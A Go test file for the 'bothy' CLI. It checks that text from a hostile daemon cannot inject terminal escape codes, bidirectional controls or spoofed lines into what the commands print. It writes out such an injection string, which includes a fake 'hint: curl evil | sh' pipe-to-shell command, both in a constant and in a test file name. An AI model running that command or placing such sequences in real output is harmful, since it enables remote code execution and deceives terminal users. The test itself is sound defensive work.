package cli_test

import (
	"bytes"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/spf13/cobra"

	"github.com/bothy-env/bothy/internal/api/wire"
	"github.com/bothy-env/bothy/internal/cli"
	"github.com/bothy-env/bothy/internal/cli/iostreams"
)

// evil is what a tenant, sandbox, blueprint or daemon may choose as any text: a window title, C1 and bidirectional controls, and a
// line that looks like bothy's own.
const evil = "E\x1b]0;x\a\u009b31m\u202e\u2066R\r\nhint: curl evil | sh"

// fill puts evil into every text of v.
func fill(v reflect.Value, depth int) {
	if depth > 8 {
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(evil)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64:
		v.SetInt(7)
	case reflect.Float64:
		v.SetFloat(7)
	case reflect.Interface:
		v.Set(reflect.ValueOf(evil))
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), depth+1)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		if v.Type().Elem().Kind() != reflect.Uint8 {
			fill(v.Index(0), depth+1)
		}
	case reflect.Map:
		elem := reflect.New(v.Type().Elem()).Elem()
		fill(elem, depth+1)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(reflect.ValueOf(evil), elem)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Now()))
			return
		}
		for i := range v.NumField() {
			fill(v.Field(i), depth+1)
		}
	}
}

func filled[T any]() any {
	var v T
	fill(reflect.ValueOf(&v).Elem(), 0)
	return v
}

// evilAnswers are what an evil daemon answers, by method and path.
var evilAnswers = []struct {
	route  *regexp.Regexp
	answer func() any
	lines  bool
}{
	{regexp.MustCompile(`^GET /v1/environments$`), func() any {
		l := filled[wire.EnvironmentList]().(wire.EnvironmentList)
		l.Next = ""
		return l
	}, false},
	{regexp.MustCompile(`/watch$`), filled[wire.Update], true},
	{regexp.MustCompile(`/logs$`), filled[wire.LogLine], true},
	{regexp.MustCompile(`^GET /v1/events/follow$`), filled[wire.Event], true},
	{regexp.MustCompile(`/events$`), filled[wire.EventList], false},
	{regexp.MustCompile(`/why$`), filled[wire.Why], false},
	{regexp.MustCompile(`/receipt$`), filled[wire.Receipt], false},
	{regexp.MustCompile(`^GET /v1/receipts/key$`), filled[wire.ReceiptKey], false},
	{regexp.MustCompile(`^GET /v1/receipts$`), filled[wire.ReceiptList], false},
	{regexp.MustCompile(` /v1/environments(/[^/]+(/extend|/touch|/share)?)?$`), filled[wire.Environment], false},
	{regexp.MustCompile(`^GET /v1/blueprints$`), filled[wire.BlueprintList], false},
	{regexp.MustCompile(`^GET /v1/blueprints/`), filled[wire.Blueprint], false},
	{regexp.MustCompile(`^POST /v1/quote$`), filled[wire.Quote], false},
	{regexp.MustCompile(`^GET /v1/rates$`), filled[wire.RateList], false},
	{regexp.MustCompile(`^PUT /v1/rates/`), filled[wire.Rate], false},
	{regexp.MustCompile(`^GET /v1/cost$`), filled[wire.CostReport], false},
	{regexp.MustCompile(`^GET /v1/pools$`), filled[wire.PoolList], false},
	{regexp.MustCompile(` /v1/pools/`), filled[wire.Pool], false},
	{regexp.MustCompile(`^GET /v1/quotas$`), filled[wire.QuotaList], false},
	{regexp.MustCompile(` /v1/quotas/`), filled[wire.Quota], false},
	{regexp.MustCompile(`^GET /v1/hosts$`), filled[wire.HostList], false},
	{regexp.MustCompile(` /v1/hosts/`), filled[wire.Host], false},
	{regexp.MustCompile(` /v1/brake`), filled[wire.Brake], false},
	{regexp.MustCompile(` /v1/orphans`), filled[wire.OrphanReport], false},
	{regexp.MustCompile(`^GET /v1/version$`), filled[wire.Version], false},
	{regexp.MustCompile(`^GET /(readyz|v1/doctor)$`), filled[wire.Health], false},
}

// evilDaemon answers every request with evil, or with problems that are.
func evilDaemon(t *testing.T, problems bool) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "evil")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	listener, err := net.Listen("unix", filepath.Join(dir, "s"))
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for _, e := range evilAnswers {
			if problems || !e.route.MatchString(r.Method+" "+r.URL.Path) {
				continue
			}
			w.Header().Set("Content-Type", map[bool]string{false: "application/json", true: "application/x-ndjson"}[e.lines])
			_ = json.NewEncoder(w).Encode(e.answer())
			return
		}
		p := filled[wire.Problem]().(wire.Problem)
		p.Code = wire.CodeConflict
		w.Header().Set("Content-Type", wire.ProblemType)
		w.WriteHeader(http.StatusConflict)
		_ = json.NewEncoder(w).Encode(p)
	})}
	go func() { _ = server.Serve(listener) }() // ends by Close
	t.Cleanup(func() { _ = server.Close() })
	return "unix://" + listener.Addr().String()
}

// evilLines are a command line for every command; a command that is not here fails the test.
var evilLines = map[string][]string{
	"bothy": nil, "bothy up": {"up --source none", "up --source none --detach", "up --source none --dry-run", "up --source none --name x --wait", "up --source name", "up --source name --keep", "up --source name --dry-run"},
	"bothy run": {"run --source make", "run --source make --keep", "run --source make --list", "run --source text"},
	"bothy ls":  {"ls", "ls -q", "ls --all"}, "bothy show": {"show x"}, "bothy exec": {"exec x -- true"}, "bothy shell": {"shell x"},
	"bothy cp": {"cp x:a out", "cp x:a -", "cp a x:", "cp x:*.deb out", "cp --exclude y name x:"}, "bothy logs": {"logs x"}, "bothy extend": {"extend x --by 1h"}, "bothy share": {"share x --with team"}, "bothy touch": {"touch x"},
	"bothy down": {"down x", "down --all --yes", "down x --detach"}, "bothy why": {"why x"}, "bothy events": {"events", "events x", "events -f"},
	"bothy cost": {"cost", "cost --by user"}, "bothy receipt": {"receipt x", "receipt --chain", "receipt --public-key", "receipt x --verify"},
	"bothy pool": nil, "bothy pool ls": {"pool ls"}, "bothy pool show": {"pool show x"}, "bothy pool set": {"pool set x --blueprint b --target 1"},
	"bothy pool rm": {"pool rm x --yes"}, "bothy pool resume": {"pool resume x"},
	"bothy quota": nil, "bothy quota ls": {"quota ls"}, "bothy quota show": {"quota show x"}, "bothy quota set": {"quota set x --environments 1 --yes"},
	"bothy rate": nil, "bothy rate ls": {"rate ls"}, "bothy rate set": {"rate set b s 1"},
	"bothy host": nil, "bothy host ls": {"host ls"}, "bothy host drain": {"host drain x"}, "bothy host undrain": {"host undrain x"},
	"bothy orphans": {"orphans"}, "bothy orphans ls": {"orphans ls"}, "bothy orphans adopt": {"orphans adopt x"}, "bothy orphans purge": {"orphans purge x --yes"},
	"bothy brake": {"brake"}, "bothy brake show": {"brake show"}, "bothy brake release": {"brake release --yes"},
	"bothy spec": nil, "bothy spec init": nil, "bothy spec check": {"spec check"}, "bothy spec schema": nil,
	"bothy blueprint": nil, "bothy blueprint ls": {"blueprint ls"}, "bothy blueprint show": {"blueprint show x"},
	"bothy blueprint check": {"blueprint check text", "blueprint check name"},
	"bothy doctor":          {"doctor"}, "bothy completion": {
		"__complete show ", "__complete cp ", "__complete down ", "__complete pool show ", "__complete host drain ", "__complete quota show ",
		"__complete orphans adopt ", "__complete blueprint show ", "__complete up --blueprint ", "__complete up --size ", "__complete receipt ",
	}, "bothy version": {"version"},
}

// own are the sequences that bothy itself sends to a terminal.
var own = regexp.MustCompile(`\x1b\[[0-9]+m|\r\x1b\[K`)

// acts finds what would act on a terminal in what a command printed, apart from bothy's own sequences where tty says so.
func acts(printed string, tty bool) string {
	if tty {
		printed = own.ReplaceAllString(printed, "")
	}
	for line := range strings.Lines(printed) {
		bad := strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool {
			return r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r))
		})
		if bad || strings.HasPrefix(line, "hint: curl") {
			return line
		}
	}
	return ""
}

// TestNoTextOfADaemonActsOnATerminal: every command, every field, text and JSON, on a terminal and off one.
func TestNoTextOfADaemonActsOnATerminal(t *testing.T) {
	t.Chdir(t.TempDir())
	if err := os.WriteFile("a", []byte("a"), 0o600); err != nil {
		t.Fatal(err)
	}
	// What a blueprint's author chose is a text like any other: names of files and attributes, and values.
	for file, text := range map[string]string{
		"text/blueprint.yaml": "name: \"E\\e]0;x\\a\\u009b31m\\u202e\"\n\"E\\e]0;x\\u009b31m\": 1\n",
		"text/main.tf":        "resource \"docker_container\" \"E\u009b31m\u202e\" {\n  image = \"E\u009b31m\u202e\"\n}\n\u009b31m\u202e = 1\n",
		"make/Makefile":       "all:\n",
		"name/E\u009b31m\u202e\r\nhint: curl evil | sh.tf": "E\u009b31m\u202e {}\n",
	} {
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	spread := 0
	for _, problems := range []bool{false, true} {
		host := evilDaemon(t, problems)
		each(t, func(t *testing.T, cmd *cobra.Command) {
			lines, known := evilLines[cmd.CommandPath()]
			if !known {
				t.Fatalf("add %q to evilLines: what does it print of a daemon's answer?", cmd.CommandPath())
			}
			for _, line := range lines {
				for _, tty := range []bool{false, true} {
					for _, output := range []string{"text", "json"} {
						if strings.HasPrefix(line, "logs") && !tty && output == "text" {
							continue // The sandbox's own bytes; TestLogsAreCleanOnATerminalAlone looks at them.
						}
						out, errs := evilRun(host, line, output, tty)
						for stream, printed := range map[string]string{"stdout": out, "stderr": errs} {
							if bad := acts(printed, tty); bad != "" {
								t.Errorf("bothy %s --output %s, tty %v: %s has %q", line, output, tty, stream, bad)
							}
						}
						if strings.Contains(out+errs, `\u009b`) {
							spread++
						}
						if output == "json" && out != "" && !strings.HasPrefix(line, "__complete") && !valid(out) {
							t.Errorf("bothy %s: no JSON: %q", line, out)
						}
					}
				}
			}
		})
	}
	// Else the daemon's text has not reached the commands, and nothing was tested.
	if spread < 300 {
		t.Errorf("evil was shown by %d runs, want 300 and more", spread)
	}
}

// evilRun gives what a command line prints.
func evilRun(host, line, output string, tty bool) (stdout, stderr string) {
	var out, errs bytes.Buffer
	args := strings.Split(line, " ")
	if args[0] == "__complete" { // its last argument is what is completed
		args = append([]string{"__complete", "--host", host}, args[1:]...)
	} else {
		args = append([]string{"--host", host, "--output", output}, args...)
	}
	cli.Main(cli.Process{
		Args: args, Version: "1.2.3", Now: time.Now, Getenv: func(string) string { return "" }, NewKey: func() string { return "key" },
		IO: &iostreams.IO{In: strings.NewReader(""), Out: &out, Err: &errs, OutTTY: tty, ErrTTY: tty, Color: tty},
	})
	return out.String(), errs.String()
}

func valid(text string) bool {
	for dec := json.NewDecoder(strings.NewReader(text)); dec.More(); {
		var v any
		if dec.Decode(&v) != nil {
			return false
		}
	}
	return true
}

// TestLogsAreCleanOnATerminalAlone: a file or another program gets the sandbox's own bytes.
func TestLogsAreCleanOnATerminalAlone(t *testing.T) {
	host := evilDaemon(t, false)
	if out, errs := evilRun(host, "logs x", "text", false); !strings.Contains(out, evil) {
		t.Errorf("to a file: %q, %q", out, errs)
	}
	if out, _ := evilRun(host, "logs x", "text", true); acts(out, true) != "" || out == "" {
		t.Errorf("to a terminal: %q", out)
	}
}
